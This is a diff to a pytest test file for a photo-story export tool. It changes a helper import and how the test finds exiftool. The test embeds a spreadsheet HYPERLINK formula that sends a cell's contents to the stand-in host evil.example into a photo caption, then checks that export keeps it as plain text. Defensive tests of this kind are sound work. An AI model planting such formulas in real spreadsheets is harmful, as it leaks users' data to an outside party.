@@ -12,7 +12,8 @@ from pathlib import Path
 
 import pytest
 
-from attacks.conftest import HANG_GUARD_SECONDS, assert_refused, make_photo, photostory, snapshot
+from support import require_tool
+from cli_support import HANG_GUARD_SECONDS, assert_refused, make_photo, photostory, snapshot
 
 FORMULA = '=HYPERLINK("https://evil.example/?d="&B3,"Read the full caption")'
 
@@ -100,12 +101,12 @@ def test_a_short_row_keeps_credit_and_alt(story_dir: Path) -> None:
 # -- formulas from a photo's IPTC ------------------------------------------------------------------
 
 
-@pytest.mark.skipif(shutil.which("exiftool") is None, reason="exiftool writes the IPTC caption")
 def test_a_formula_caption_from_iptc_is_exported_as_text_and_comes_back_exactly(tmp_path: Path) -> None:
+    exiftool = require_tool("exiftool")  # writes the IPTC caption
     photos = tmp_path / "photos"
     for name, caption in (("a.jpg", FORMULA), ("b.jpg", "-5 °C in Astana"), ("c.jpg", "'quoted'")):
         make_photo(photos / name)
-        subprocess.run(["exiftool", "-q", "-overwrite_original", "-charset", "iptc=UTF8",
+        subprocess.run([exiftool, "-q", "-overwrite_original", "-charset", "iptc=UTF8",
                         "-IPTC:CodedCharacterSet=UTF8", f"-IPTC:Caption-Abstract={caption}",
                         str(photos / name)], check=True, timeout=HANG_GUARD_SECONDS)
     story = tmp_path / "story.photostory"
